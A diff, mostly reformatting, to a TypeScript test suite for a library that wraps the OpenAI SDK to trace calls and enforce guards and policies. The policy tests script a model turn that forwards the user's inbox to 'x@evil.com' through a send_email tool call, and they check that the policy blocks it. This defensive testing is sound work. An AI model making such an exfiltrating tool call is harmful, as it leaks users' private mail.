@@ -3,8 +3,8 @@ import {
   CircuitOpenError,
   createTracer,
   GuardTimeoutError,
-  parsePolicy,
   PolicyViolationError,
+  parsePolicy,
   RateLimitedError,
   withTrace,
 } from '@tracewarden/core';
@@ -42,15 +42,35 @@ raise "inbox content sent outside" if:
 describe('wrapOpenAI: chat completions', () => {
   it('records request messages, the response, reasoning and tool calls with metadata', async () => {
     const { tracer, client, server } = await start({
-      turns: [{ text: 'Checking', reasoning: 'need the inbox', toolCalls: [{ name: 'get_inbox', arguments: { folder: 'in' }, id: 'call_1' }], usage: { inputTokens: 100, outputTokens: 20, cachedTokens: 40 } }],
+      turns: [
+        {
+          text: 'Checking',
+          reasoning: 'need the inbox',
+          toolCalls: [{ name: 'get_inbox', arguments: { folder: 'in' }, id: 'call_1' }],
+          usage: { inputTokens: 100, outputTokens: 20, cachedTokens: 40 },
+        },
+      ],
     });
-    const completion = await client.chat.completions.create({ model: 'gpt-4o-mini', messages: [{ role: 'system', content: 'Be brief' }, user('Hi')] });
+    const completion = await client.chat.completions.create({
+      model: 'gpt-4o-mini',
+      messages: [{ role: 'system', content: 'Be brief' }, user('Hi')],
+    });
     expect(completion.choices[0]?.message.tool_calls?.[0]?.id).toBe('call_1');
     const blocks = tracer.blocks();
-    expect(blocks.map((block) => block.sub_type)).toEqual(['MESSAGE', 'MESSAGE', 'MESSAGE', 'THINK', 'TOOL_CALL']);
+    expect(blocks.map((block) => block.sub_type)).toEqual([
+      'MESSAGE',
+      'MESSAGE',
+      'MESSAGE',
+      'THINK',
+      'TOOL_CALL',
+    ]);
     const response = blocks[2];
     expect(response?.payload).toEqual({ role: 'assistant', content: 'Checking' });
-    expect(blocks[4]?.payload).toEqual({ call_id: 'call_1', name: 'get_inbox', arguments: { folder: 'in' } });
+    expect(blocks[4]?.payload).toEqual({
+      call_id: 'call_1',
+      name: 'get_inbox',
+      arguments: { folder: 'in' },
+    });
     const metadata = response?.metadata as Record<string, unknown>;
     expect(metadata).toMatchObject({
       provider: 'openai',
@@ -72,11 +92,19 @@ describe('wrapOpenAI: chat completions', () => {
   });
 
   it('gives the SDK stream back, aggregates it as it passes and records the same blocks as without streaming', async () => {
-    const turn = { text: 'Hello there, friend', reasoning: 'greet', toolCalls: [{ name: 'get_inbox', arguments: { folder: 'in' }, id: 'call_a' }] };
+    const turn = {
+      text: 'Hello there, friend',
+      reasoning: 'greet',
+      toolCalls: [{ name: 'get_inbox', arguments: { folder: 'in' }, id: 'call_a' }],
+    };
     const plain = await start({ turns: [turn] });
     await plain.client.chat.completions.create({ model: 'gpt-4o-mini', messages: [user('Hi')] });
     const streamed = await start({ turns: [turn] });
-    const stream = await streamed.client.chat.completions.create({ model: 'gpt-4o-mini', messages: [user('Hi')], stream: true });
+    const stream = await streamed.client.chat.completions.create({
+      model: 'gpt-4o-mini',
+      messages: [user('Hi')],
+      stream: true,
+    });
     expect(stream).toBeInstanceOf(Stream);
     expect(stream.controller).toBeInstanceOf(AbortController);
     let text = '';
@@ -93,19 +121,31 @@ describe('wrapOpenAI: chat completions', () => {
     const metadata = streamed.tracer.blocks()[1]?.metadata as Record<string, unknown>;
     expect(metadata.stream).toBe(true);
     expect(typeof metadata.time_to_first_token_ms).toBe('number');
-    expect(metadata.usage).toEqual((plain.tracer.blocks()[1]?.metadata as Record<string, unknown>).usage);
+    expect(metadata.usage).toEqual(plain.tracer.blocks()[1]?.metadata.usage);
   });
 
   it('delivers the usage chunk when the caller asked for it, and leaves include_usage off on opt-out', async () => {
     const { client, server } = await start({ turns: [{ text: 'a' }, { text: 'b' }] });
-    const asked = await client.chat.completions.create({ model: 'gpt-4o-mini', messages: [user('x')], stream: true, stream_options: { include_usage: true } });
+    const asked = await client.chat.completions.create({
+      model: 'gpt-4o-mini',
+      messages: [user('x')],
+      stream: true,
+      stream_options: { include_usage: true },
+    });
     const seen = [];
     for await (const chunk of asked) seen.push(chunk);
     expect(seen.at(-1)?.choices).toEqual([]);
     expect(seen.at(-1)?.usage).toBeTruthy();
     const tracer = createTracer();
-    const optOut = wrapOpenAI(new OpenAI({ baseURL: server.url, apiKey: 'k' }), { tracer, includeUsage: false });
-    for await (const _ of await optOut.chat.completions.create({ model: 'gpt-4o-mini', messages: [user('y')], stream: true })) {
+    const optOut = wrapOpenAI(new OpenAI({ baseURL: server.url, apiKey: 'k' }), {
+      tracer,
+      includeUsage: false,
+    });
+    for await (const _ of await optOut.chat.completions.create({
+      model: 'gpt-4o-mini',
+      messages: [user('y')],
+      stream: true,
+    })) {
       // drain
     }
     expect(server.requests[1]?.body?.stream_options).toBeUndefined();
@@ -120,8 +160,17 @@ describe('wrapOpenAI: chat completions', () => {
         { text: 'Bob wrote twice.' },
       ],
     });
-    const tools = { get_inbox: () => [{ from: 'bob' }], get_contact: (args: Record<string, unknown>) => ({ name: args.name, email: 'bob@acme.example' }) };
-    const messages: ChatCompletionMessageParam[] = [{ role: 'system', content: 'You read mail.' }, user('Who wrote?')];
+    const tools = {
+      get_inbox: () => [{ from: 'bob' }],
+      get_contact: (args: Record<string, unknown>) => ({
+        name: args.name,
+        email: 'bob@acme.example',
+      }),
+    };
+    const messages: ChatCompletionMessageParam[] = [
+      { role: 'system', content: 'You read mail.' },
+      user('Who wrote?'),
+    ];
     for (let turn = 0; turn < 3; turn++) {
       const completion = await client.chat.completions.create({ model: 'gpt-4o-mini', messages });
       const message = completion.choices[0]!.message;
@@ -133,7 +182,12 @@ describe('wrapOpenAI: chat completions', () => {
     messages.push(user('Who wrote?'));
     await client.chat.completions.create({ model: 'gpt-4o-mini', messages }).catch(() => undefined);
 
-    const subTypes = tracer.blocks().map((block) => `${block.sub_type}:${'role' in block.payload ? block.payload.role : (block.payload as { call_id?: string }).call_id}`);
+    const subTypes = tracer
+      .blocks()
+      .map(
+        (block) =>
+          `${block.sub_type}:${'role' in block.payload ? block.payload.role : (block.payload as { call_id?: string }).call_id}`,
+      );
     expect(subTypes).toEqual([
       'MESSAGE:system',
       'MESSAGE:user',
@@ -154,10 +208,16 @@ describe('wrapOpenAI: chat completions', () => {
   });
 
   it('records tool messages sent back by hand under their TOOL_CALL', async () => {
-    const { tracer, client } = await start({ turns: [{ toolCalls: [{ name: 'lookup', arguments: {}, id: 'call_9' }] }, { text: 'done' }] });
+    const { tracer, client } = await start({
+      turns: [{ toolCalls: [{ name: 'lookup', arguments: {}, id: 'call_9' }] }, { text: 'done' }],
+    });
     const messages: ChatCompletionMessageParam[] = [user('go')];
     const first = await client.chat.completions.create({ model: 'gpt-4o-mini', messages });
-    messages.push(first.choices[0]!.message, { role: 'tool', tool_call_id: 'call_9', content: 'found it' });
+    messages.push(first.choices[0]!.message, {
+      role: 'tool',
+      tool_call_id: 'call_9',
+      content: 'found it',
+    });
     await client.chat.completions.create({ model: 'gpt-4o-mini', messages });
     const result = tracer.blocks().find((block) => block.sub_type === 'TOOL_RESULT');
     expect(result?.payload).toEqual({ call_id: 'call_9', output: 'found it' });
@@ -166,21 +226,45 @@ describe('wrapOpenAI: chat completions', () => {
 
   it('covers the SDK helpers built on create: stream, parse and runTools', async () => {
     const { tracer, client } = await start({
-      turns: [{ text: 'streamed' }, { text: '{"a":1}' }, { toolCalls: [{ name: 'add', arguments: { x: 1 }, id: 'call_r' }] }, { text: 'two' }],
+      turns: [
+        { text: 'streamed' },
+        { text: '{"a":1}' },
+        { toolCalls: [{ name: 'add', arguments: { x: 1 }, id: 'call_r' }] },
+        { text: 'two' },
+      ],
     });
-    const helperStream = client.chat.completions.stream({ model: 'gpt-4o-mini', messages: [user('s')] });
+    const helperStream = client.chat.completions.stream({
+      model: 'gpt-4o-mini',
+      messages: [user('s')],
+    });
     expect((await helperStream.finalChatCompletion()).choices[0]?.message.content).toBe('streamed');
     await client.chat.completions.parse({ model: 'gpt-4o-mini', messages: [user('p')] });
     const runner = client.chat.completions.runTools({
       model: 'gpt-4o-mini',
       messages: [user('r')],
-      tools: [{ type: 'function', function: { name: 'add', description: 'adds one', parameters: { type: 'object', properties: {} }, function: (args: { x: number }) => args.x + 1, parse: JSON.parse } }],
+      tools: [
+        {
+          type: 'function',
+          function: {
+            name: 'add',
+            description: 'adds one',
+            parameters: { type: 'object', properties: {} },
+            function: (args: { x: number }) => args.x + 1,
+            parse: JSON.parse,
+          },
+        },
+      ],
     });
     expect(await runner.finalContent()).toBe('two');
     const responses = tracer.blocks().filter((block) => block.metadata.api === 'chat.completions');
-    expect(responses.map((block) => block.payload.role === 'assistant' && block.payload.content)).toEqual(['streamed', '{"a":1}', null, 'two']);
+    expect(
+      responses.map((block) => block.payload.role === 'assistant' && block.payload.content),
+    ).toEqual(['streamed', '{"a":1}', null, 'two']);
     // runTools sent the tool result back: recorded under its call
-    expect(tracer.stitched().messages.find((message) => message.tool_calls.length > 0)?.tool_calls[0]?.output).toBe('2');
+    expect(
+      tracer.stitched().messages.find((message) => message.tool_calls.length > 0)?.tool_calls[0]
+        ?.output,
+    ).toBe('2');
   });
 
   it('keeps APIPromise: withResponse, asResponse and _request_id', async () => {
@@ -192,9 +276,14 @@ describe('wrapOpenAI: chat completions', () => {
     expect(request_id).toBeTruthy();
     expect((data as { _request_id?: string | null })._request_id).toBe(request_id);
     expect(tracer.blocks()[1]?.metadata.request_id).toBe(request_id);
-    const raw = await client.chat.completions.create({ model: 'gpt-4o-mini', messages: [user('b')] }).asResponse();
+    const raw = await client.chat.completions
+      .create({ model: 'gpt-4o-mini', messages: [user('b')] })
+      .asResponse();
     expect(raw.bodyUsed).toBe(false);
-    expect(((await raw.json()) as { choices: { message: { content: string } }[] }).choices[0]?.message.content).toBe('two');
+    expect(
+      ((await raw.json()) as { choices: { message: { content: string } }[] }).choices[0]?.message
+        .content,
+    ).toBe('two');
   });
 
   it('is the same instance, wrapping twice is a no-op, and withOptions clients stay wrapped', async () => {
@@ -208,7 +297,11 @@ describe('wrapOpenAI: chat completions', () => {
     await client.chat.completions.create({ model: 'gpt-4o-mini', messages: [user('1')] });
     await other.chat.completions.create({ model: 'gpt-4o-mini', messages: [user('2')] });
     expect(tracer.blocks().filter((block) => block.metadata.api !== undefined)).toHaveLength(2);
-    expect(tracer.blocks().every((block) => (block.metadata.attempts as unknown[] | undefined)?.length !== 2)).toBe(true);
+    expect(
+      tracer
+        .blocks()
+        .every((block) => (block.metadata.attempts as unknown[] | undefined)?.length !== 2),
+    ).toBe(true);
   });
 
   it('records into withTrace, else a per-client default tracer', async () => {
@@ -217,7 +310,9 @@ describe('wrapOpenAI: chat completions', () => {
     await client.chat.completions.create({ model: 'gpt-4o-mini', messages: [user('1')] });
     expect(defaultTracerOf(client)?.blocks()).toHaveLength(2);
     const scoped = createTracer();
-    await withTrace(scoped, () => client.chat.completions.create({ model: 'gpt-4o-mini', messages: [user('2')] }));
+    await withTrace(scoped, () =>
+      client.chat.completions.create({ model: 'gpt-4o-mini', messages: [user('2')] }),
+    );
     expect(scoped.blocks()).toHaveLength(2);
     expect(defaultTracerOf(client)?.blocks()).toHaveLength(2);
   });
@@ -225,30 +320,62 @@ describe('wrapOpenAI: chat completions', () => {
 
 describe('wrapOpenAI: failures, retries and cancellation', () => {
   it('records every SDK attempt of a 429 then success, without adding retries', async () => {
-    const { tracer, client, server } = await start({ turns: [{ fault: { type: 'status', status: 429, retryAfter: 0 } }, { text: 'ok' }] }, {}, { maxRetries: 2 });
-    const completion = await client.chat.completions.create({ model: 'gpt-4o-mini', messages: [user('x')] });
+    const { tracer, client, server } = await start(
+      { turns: [{ fault: { type: 'status', status: 429, retryAfter: 0 } }, { text: 'ok' }] },
+      {},
+      { maxRetries: 2 },
+    );
+    const completion = await client.chat.completions.create({
+      model: 'gpt-4o-mini',
+      messages: [user('x')],
+    });
     expect(completion.choices[0]?.message.content).toBe('ok');
     expect(server.requests).toHaveLength(2);
-    const metadata = tracer.blocks()[1]?.metadata as { attempts: { http_status: number }[]; status: string };
+    const metadata = tracer.blocks()[1]?.metadata as {
+      attempts: { http_status: number }[];
+      status: string;
+    };
     expect(metadata.status).toBe('success');
     expect(metadata.attempts.map((attempt) => attempt.http_status)).toEqual([429, 200]);
   });
 
   it('records a call that fails after the SDK retries and throws the SDK error', async () => {
     const fault = { type: 'status' as const, status: 500, retryAfter: 0 };
-    const { tracer, client, server } = await start({ turns: [{ fault }, { fault }, { fault }] }, {}, { maxRetries: 2 });
-    const error = await client.chat.completions.create({ model: 'gpt-4o-mini', messages: [user('x')] }).catch((e: unknown) => e);
+    const { tracer, client, server } = await start(
+      { turns: [{ fault }, { fault }, { fault }] },
+      {},
+      { maxRetries: 2 },
+    );
+    const error = await client.chat.completions
+      .create({ model: 'gpt-4o-mini', messages: [user('x')] })
+      .catch((e: unknown) => e);
     expect(error).toBeInstanceOf(OpenAI.InternalServerError);
     expect(server.requests).toHaveLength(3);
-    const metadata = tracer.blocks()[1]?.metadata as { attempts: unknown[]; status: string; error: { status: number } };
+    const metadata = tracer.blocks()[1]?.metadata as {
+      attempts: unknown[];
+      status: string;
+      error: { status: number };
+    };
     expect(metadata.status).toBe('failure');
     expect(metadata.attempts).toHaveLength(3);
     expect(metadata.error.status).toBe(500);
   });
 
   it('records the partial output of a stream cut mid-way as failed', async () => {
-    const { tracer, client } = await start({ turns: [{ text: 'This answer will be cut off somewhere', fault: { type: 'drop-mid-stream', afterChunks: 3 } }], chunkSize: 4 });
-    const stream = await client.chat.completions.create({ model: 'gpt-4o-mini', messages: [user('x')], stream: true });
+    const { tracer, client } = await start({
+      turns: [
+        {
+          text: 'This answer will be cut off somewhere',
+          fault: { type: 'drop-mid-stream', afterChunks: 3 },
+        },
+      ],
+      chunkSize: 4,
+    });
+    const stream = await client.chat.completions.create({
+      model: 'gpt-4o-mini',
+      messages: [user('x')],
+      stream: true,
+    });
     let text = '';
     const error = await (async () => {
       for await (const chunk of stream) text += chunk.choices[0]?.delta.content ?? '';
@@ -260,8 +387,15 @@ describe('wrapOpenAI: failures, retries and cancellation', () => {
   });
 
   it('records an early break as cancelled with the partial output', async () => {
-    const { tracer, client } = await start({ turns: [{ text: 'one two three four five six seven' }], chunkSize: 4 });
-    const stream = await client.chat.completions.create({ model: 'gpt-4o-mini', messages: [user('x')], stream: true });
+    const { tracer, client } = await start({
+      turns: [{ text: 'one two three four five six seven' }],
+      chunkSize: 4,
+    });
+    const stream = await client.chat.completions.create({
+      model: 'gpt-4o-mini',
+      messages: [user('x')],
+      stream: true,
+    });
     let text = '';
     for await (const chunk of stream) {
       text += chunk.choices[0]?.delta.content ?? '';
@@ -274,8 +408,18 @@ describe('wrapOpenAI: failures, retries and cancellation', () => {
   });
 
   it('records an aborted stream and an aborted request as cancelled', async () => {
-    const { tracer, client } = await start({ turns: [{ text: 'a long answer that goes on' }, { text: 'never', fault: { type: 'slow-first-byte', delayMs: 2000 } }], chunkSize: 2 });
-    const stream = await client.chat.completions.create({ model: 'gpt-4o-mini', messages: [user('x')], stream: true });
+    const { tracer, client } = await start({
+      turns: [
+        { text: 'a long answer that goes on' },
+        { text: 'never', fault: { type: 'slow-first-byte', delayMs: 2000 } },
+      ],
+      chunkSize: 2,
+    });
+    const stream = await client.chat.completions.create({
+      model: 'gpt-4o-mini',
+      messages: [user('x')],
+      stream: true,
+    });
     let count = 0;
     for await (const _ of stream) {
       if (++count === 2) stream.controller.abort();
@@ -283,7 +427,10 @@ describe('wrapOpenAI: failures, retries and cancellation', () => {
     expect(tracer.blocks()[1]?.metadata.status).toBe('cancelled');
 
     const controller = new AbortController();
-    const pending = client.chat.completions.create({ model: 'gpt-4o-mini', messages: [user('y')] }, { signal: controller.signal });
+    const pending = client.chat.completions.create(
+      { model: 'gpt-4o-mini', messages: [user('y')] },
+      { signal: controller.signal },
+    );
     setTimeout(() => controller.abort(), 20);
     await expect(pending).rejects.toBeInstanceOf(OpenAI.APIUserAbortError);
     expect(tracer.blocks().at(-1)?.metadata.status).toBe('cancelled');
@@ -292,9 +439,16 @@ describe('wrapOpenAI: failures, retries and cancellation', () => {
   it('cuts a stream off when its running cost would pass the budget', async () => {
     const { tracer, client } = await start(
       { turns: [{ text: 'x'.repeat(4000) }], chunkSize: 40 },
-      { guards: { budget: { maxCostPerCall: 0.001 } }, pricing: { overrides: { 'pricey-model': [10, 10] } } },
+      {
+        guards: { budget: { maxCostPerCall: 0.001 } },
+        pricing: { overrides: { 'pricey-model': [10, 10] } },
+      },
     );
-    const stream = await client.chat.completions.create({ model: 'pricey-model', messages: [user('x')], stream: true });
+    const stream = await client.chat.completions.create({
+      model: 'pricey-model',
+      messages: [user('x')],
+      stream: true,
+    });
     let received = 0;
     const error = await (async () => {
       for await (const chunk of stream) received += chunk.choices[0]?.delta.content?.length ?? 0;
@@ -307,7 +461,7 @@ describe('wrapOpenAI: failures, retries and cancellation', () => {
     const response = tracer.blocks()[1];
     expect(response?.metadata.status).toBe('budget_exceeded');
     // the chunk that crossed the budget was generated (and billed) but not delivered
-    expect((response?.payload.content as string).length).toBe(received + 40);
+    expect(String(response?.payload.content).length).toBe(received + 40);
     expect(JSON.stringify(response?.metadata.decisions)).toContain('cut_off');
   });
 
@@ -317,7 +471,9 @@ describe('wrapOpenAI: failures, retries and cancellation', () => {
       { guards: { budget: { maxCostPerSession: 0.001 } }, pricing: { overrides: { m: [1, 1] } } },
     );
     await client.chat.completions.create({ model: 'm', messages: [user('a')] });
-    const error = await client.chat.completions.create({ model: 'm', messages: [user('b')] }).catch((e: unknown) => e);
+    const error = await client.chat.completions
+      .create({ model: 'm', messages: [user('b')] })
+      .catch((e: unknown) => e);
     expect(error).toBeInstanceOf(BudgetExceededError);
     expect(server.requests).toHaveLength(1);
     expect(tracer.blocks().at(-1)?.metadata.status).toBe('budget_exceeded');
@@ -325,23 +481,43 @@ describe('wrapOpenAI: failures, retries and cancellation', () => {
 
   it('opens a circuit after failures (one count per call, not per SDK retry) and rate-limits calls', async () => {
     const fault = { type: 'status' as const, status: 500, retryAfter: 0 };
-    const { client, server } = await start({ turns: [{ fault }, { fault }, { fault }, { fault }] }, { guards: { circuitBreaker: { failureThreshold: 2, recoveryTimeout: 60 } } }, { maxRetries: 1 });
-    await expect(client.chat.completions.create({ model: 'gpt-4o-mini', messages: [user('1')] })).rejects.toBeInstanceOf(OpenAI.InternalServerError);
-    await expect(client.chat.completions.create({ model: 'gpt-4o-mini', messages: [user('2')] })).rejects.toBeInstanceOf(OpenAI.InternalServerError);
+    const { client, server } = await start(
+      { turns: [{ fault }, { fault }, { fault }, { fault }] },
+      { guards: { circuitBreaker: { failureThreshold: 2, recoveryTimeout: 60 } } },
+      { maxRetries: 1 },
+    );
+    await expect(
+      client.chat.completions.create({ model: 'gpt-4o-mini', messages: [user('1')] }),
+    ).rejects.toBeInstanceOf(OpenAI.InternalServerError);
+    await expect(
+      client.chat.completions.create({ model: 'gpt-4o-mini', messages: [user('2')] }),
+    ).rejects.toBeInstanceOf(OpenAI.InternalServerError);
     expect(server.requests).toHaveLength(4);
-    await expect(client.chat.completions.create({ model: 'gpt-4o-mini', messages: [user('3')] })).rejects.toBeInstanceOf(CircuitOpenError);
+    await expect(
+      client.chat.completions.create({ model: 'gpt-4o-mini', messages: [user('3')] }),
+    ).rejects.toBeInstanceOf(CircuitOpenError);
     expect(server.requests).toHaveLength(4);
 
-    const limited = await start({ turns: [{ text: 'a' }, { text: 'b' }] }, { guards: { rateLimit: { callsPerMinute: 1, burst: 1, sharedKey: '' } } });
+    const limited = await start(
+      { turns: [{ text: 'a' }, { text: 'b' }] },
+      { guards: { rateLimit: { callsPerMinute: 1, burst: 1, sharedKey: '' } } },
+    );
     await limited.client.chat.completions.create({ model: 'gpt-4o-mini', messages: [user('1')] });
-    const error = await limited.client.chat.completions.create({ model: 'gpt-4o-mini', messages: [user('2')] }).catch((e: unknown) => e);
+    const error = await limited.client.chat.completions
+      .create({ model: 'gpt-4o-mini', messages: [user('2')] })
+      .catch((e: unknown) => e);
     expect(error).toBeInstanceOf(RateLimitedError);
     expect(limited.tracer.blocks().at(-1)?.metadata.status).toBe('rate_limited');
   });
 
   it('times a whole call out with a typed error whose cause is the SDK error', async () => {
-    const { tracer, client } = await start({ turns: [{ text: 'late', fault: { type: 'slow-first-byte', delayMs: 1000 } }] }, { timeoutSeconds: 0.05 });
-    const error = await client.chat.completions.create({ model: 'gpt-4o-mini', messages: [user('x')] }).catch((e: unknown) => e);
+    const { tracer, client } = await start(
+      { turns: [{ text: 'late', fault: { type: 'slow-first-byte', delayMs: 1000 } }] },
+      { timeoutSeconds: 0.05 },
+    );
+    const error = await client.chat.completions
+      .create({ model: 'gpt-4o-mini', messages: [user('x')] })
+      .catch((e: unknown) => e);
     expect(error).toBeInstanceOf(GuardTimeoutError);
     expect((error as Error).cause).toBeInstanceOf(OpenAI.APIUserAbortError);
     expect(tracer.blocks().at(-1)?.metadata.status).toBe('timeout');
@@ -351,13 +527,21 @@ describe('wrapOpenAI: failures, retries and cancellation', () => {
 describe('wrapOpenAI: policies on proposed tool calls', () => {
   const turns = [
     { toolCalls: [{ name: 'get_inbox', arguments: {}, id: 'call_in' }] },
-    { text: 'Forwarding.', toolCalls: [{ name: 'send_email', arguments: { to: 'x@evil.com', body: 'all mail' }, id: 'call_out' }] },
+    {
+      text: 'Forwarding.',
+      toolCalls: [
+        { name: 'send_email', arguments: { to: 'x@evil.com', body: 'all mail' }, id: 'call_out' },
+      ],
+    },
     { text: 'I could not send it.' },
   ];
 
   async function loop(client: OpenAI, tracer: ReturnType<typeof createTracer>, stream: boolean) {
     const sent: unknown[] = [];
-    const tools = { get_inbox: () => 'mail', send_email: (args: Record<string, unknown>) => sent.push(args) };
+    const tools = {
+      get_inbox: () => 'mail',
+      send_email: (args: Record<string, unknown>) => sent.push(args),
+    };
     const messages: ChatCompletionMessageParam[] = [user('handle my mail')];
     for (let turn = 0; turn < 3; turn++) {
       let message: OpenAI.Chat.Completions.ChatCompletionMessage;
@@ -365,7 +549,8 @@ describe('wrapOpenAI: policies on proposed tool calls', () => {
         const runner = client.chat.completions.stream({ model: 'gpt-4o-mini', messages });
         message = (await runner.finalChatCompletion()).choices[0]!.message;
       } else {
-        message = (await client.chat.completions.create({ model: 'gpt-4o-mini', messages })).choices[0]!.message;
+        message = (await client.chat.completions.create({ model: 'gpt-4o-mini', messages }))
+          .choices[0]!.message;
       }
       messages.push(message);
       if (!message.tool_calls?.length) {
@@ -379,7 +564,10 @@ describe('wrapOpenAI: policies on proposed tool calls', () => {
 
   for (const stream of [false, true]) {
     it(`throws PolicyViolationError before the tool runs (${stream ? 'streamed' : 'not streamed'})`, async () => {
-      const { tracer, client } = await start({ turns }, { policy: parsePolicy(exfiltrationPolicy) });
+      const { tracer, client } = await start(
+        { turns },
+        { policy: parsePolicy(exfiltrationPolicy) },
+      );
       const thrown = await loop(client, tracer, stream).catch((e: unknown) => e);
       // the SDK's stream helper wraps errors it did not raise in an OpenAIError, with ours as cause
       const error = thrown instanceof PolicyViolationError ? thrown : (thrown as Error).cause;
@@ -387,29 +575,58 @@ describe('wrapOpenAI: policies on proposed tool calls', () => {
       expect((error as PolicyViolationError).code).toBe('POLICY_VIOLATION');
       const call = tracer.findToolCall('call_out');
       expect(call?.metadata.policy).toBe('block');
-      expect(call?.metadata.violations).toMatchObject([{ message: 'inbox content sent outside', action: 'block' }]);
-      expect(tracer.blocks().some((block) => block.sub_type === 'TOOL_RESULT' && block.payload.call_id === 'call_out')).toBe(false);
+      expect(call?.metadata.violations).toMatchObject([
+        { message: 'inbox content sent outside', action: 'block' },
+      ]);
+      expect(
+        tracer
+          .blocks()
+          .some(
+            (block) => block.sub_type === 'TOOL_RESULT' && block.payload.call_id === 'call_out',
+          ),
+      ).toBe(false);
     });
 
     it(`replaces a blocked call by a refusal the model reads next turn (${stream ? 'streamed' : 'not streamed'})`, async () => {
-      const { tracer, client, server } = await start({ turns }, { policy: parsePolicy(exfiltrationPolicy), onPolicyViolation: 'refuse' });
+      const { tracer, client, server } = await start(
+        { turns },
+        { policy: parsePolicy(exfiltrationPolicy), onPolicyViolation: 'refuse' },
+      );
       const { sent, messages } = await loop(client, tracer, stream);
       expect(sent).toEqual([]);
       const refused = messages[3] as { content: string; tool_calls?: unknown[] };
       expect(refused.tool_calls ?? []).toEqual([]);
-      expect(refused.content).toMatch(/^Forwarding\.\n\nTool call send_email was blocked by policy: inbox content sent outside/);
+      expect(refused.content).toMatch(
+        /^Forwarding\.\n\nTool call send_email was blocked by policy: inbox content sent outside/,
+      );
       // the model saw the refusal on the next request
       expect(JSON.stringify(server.requests[2]?.body)).toContain('was blocked by policy');
       // and the refused message was not recorded a second time
-      expect(tracer.blocks().filter((block) => block.sub_type === 'MESSAGE' && block.payload.content === 'Forwarding.')).toHaveLength(1);
-      expect(tracer.blocks().filter((block) => block.sub_type === 'MESSAGE' && block.payload.role === 'assistant')).toHaveLength(3);
-      const output = tracer.stitched().messages.flatMap((message) => message.tool_calls).find((call) => call.block.payload.call_id === 'call_out')?.output;
+      expect(
+        tracer
+          .blocks()
+          .filter(
+            (block) => block.sub_type === 'MESSAGE' && block.payload.content === 'Forwarding.',
+          ),
+      ).toHaveLength(1);
+      expect(
+        tracer
+          .blocks()
+          .filter((block) => block.sub_type === 'MESSAGE' && block.payload.role === 'assistant'),
+      ).toHaveLength(3);
+      const output = tracer
+        .stitched()
+        .messages.flatMap((message) => message.tool_calls)
+        .find((call) => call.block.payload.call_id === 'call_out')?.output;
       expect(output).toMatch(/blocked by policy/);
     });
   }
 
   it('records warn and log violations without blocking', async () => {
-    const { tracer, client } = await start({ turns }, { policy: parsePolicy(`# action: warn\n${exfiltrationPolicy.trim()}`) });
+    const { tracer, client } = await start(
+      { turns },
+      { policy: parsePolicy(`# action: warn\n${exfiltrationPolicy.trim()}`) },
+    );
     const { sent } = await loop(client, tracer, false);
     expect(sent).toHaveLength(1);
     expect(tracer.findToolCall('call_out')?.metadata.policy).toBe('warn');
@@ -417,37 +634,83 @@ describe('wrapOpenAI: policies on proposed tool calls', () => {
 });
 
 describe('wrapOpenAI: responses API', () => {
-  const turn = { text: 'Here is the weather', reasoning: 'look it up', toolCalls: [{ name: 'get_weather', arguments: { city: 'Paris' }, id: 'call_w' }] };
+  const turn = {
+    text: 'Here is the weather',
+    reasoning: 'look it up',
+    toolCalls: [{ name: 'get_weather', arguments: { city: 'Paris' }, id: 'call_w' }],
+  };
 
   it('records a response the same way streamed or not', async () => {
     const plain = await start({ turns: [turn] });
-    const response = await plain.client.responses.create({ model: 'gpt-4o-mini', instructions: 'Be brief', input: 'Weather?' });
+    const response = await plain.client.responses.create({
+      model: 'gpt-4o-mini',
+      instructions: 'Be brief',
+      input: 'Weather?',
+    });
     expect(response.output_text).toBe('Here is the weather');
     const streamed = await start({ turns: [turn] });
-    const events = await streamed.client.responses.create({ model: 'gpt-4o-mini', instructions: 'Be brief', input: 'Weather?', stream: true });
+    const events = await streamed.client.responses.create({
+      model: 'gpt-4o-mini',
+      instructions: 'Be brief',
+      input: 'Weather?',
+      stream: true,
+    });
     const types: string[] = [];
     for await (const event of events) types.push(event.type);
     expect(types.at(-1)).toBe('response.completed');
     expect(shape(streamed.tracer.blocks())).toEqual(shape(plain.tracer.blocks()));
-    expect(plain.tracer.blocks().map((block) => block.sub_type)).toEqual(['MESSAGE', 'MESSAGE', 'MESSAGE', 'THINK', 'TOOL_CALL']);
-    expect(plain.tracer.blocks()[2]?.metadata).toMatchObject({ api: 'responses', status: 'success', usage: { input_tokens: expect.any(Number) } });
+    expect(plain.tracer.blocks().map((block) => block.sub_type)).toEqual([
+      'MESSAGE',
+      'MESSAGE',
+      'MESSAGE',
+      'THINK',
+      'TOOL_CALL',
+    ]);
+    expect(plain.tracer.blocks()[2]?.metadata).toMatchObject({
+      api: 'responses',
+      status: 'success',
+      usage: { input_tokens: expect.any(Number) },
+    });
   });
 
   it('records a multi-turn function-call loop once, and responses.stream is covered', async () => {
     const { tracer, client } = await start({ turns: [turn, { text: 'Sunny.' }] });
     const first = await client.responses.create({ model: 'gpt-4o-mini', input: 'Weather?' });
-    const outputs = await executeToolCalls(first, { get_weather: () => ({ sky: 'sunny' }) }, { tracer });
-    const input: ResponseInputItem[] = [{ role: 'user', content: 'Weather?' }, ...(first.output as ResponseInputItem[]), ...outputs];
+    const outputs = await executeToolCalls(
+      first,
+      { get_weather: () => ({ sky: 'sunny' }) },
+      { tracer },
+    );
+    const input: ResponseInputItem[] = [
+      { role: 'user', content: 'Weather?' },
+      ...(first.output as ResponseInputItem[]),
+      ...outputs,
+    ];
     const final = await client.responses.stream({ model: 'gpt-4o-mini', input }).finalResponse();
     expect(final.output_text).toBe('Sunny.');
-    expect(tracer.blocks().map((block) => block.sub_type)).toEqual(['MESSAGE', 'MESSAGE', 'THINK', 'TOOL_CALL', 'TOOL_RESULT', 'MESSAGE']);
+    expect(tracer.blocks().map((block) => block.sub_type)).toEqual([
+      'MESSAGE',
+      'MESSAGE',
+      'THINK',
+      'TOOL_CALL',
+      'TOOL_RESULT',
+      'MESSAGE',
+    ]);
   });
 
   it('blocks a proposed function call by policy', async () => {
     const { client } = await start(
-      { turns: [{ toolCalls: [{ name: 'send_email', arguments: { to: 'x@evil.com' }, id: 'c1' }] }] },
-      { policy: parsePolicy('raise "no outside mail" if:\n    (call: ToolCall)\n    call is tool:send_email\n    not match(r".*@acme\\.example$", call.function.arguments.to)') },
+      {
+        turns: [{ toolCalls: [{ name: 'send_email', arguments: { to: 'x@evil.com' }, id: 'c1' }] }],
+      },
+      {
+        policy: parsePolicy(
+          'raise "no outside mail" if:\n    (call: ToolCall)\n    call is tool:send_email\n    not match(r".*@acme\\.example$", call.function.arguments.to)',
+        ),
+      },
     );
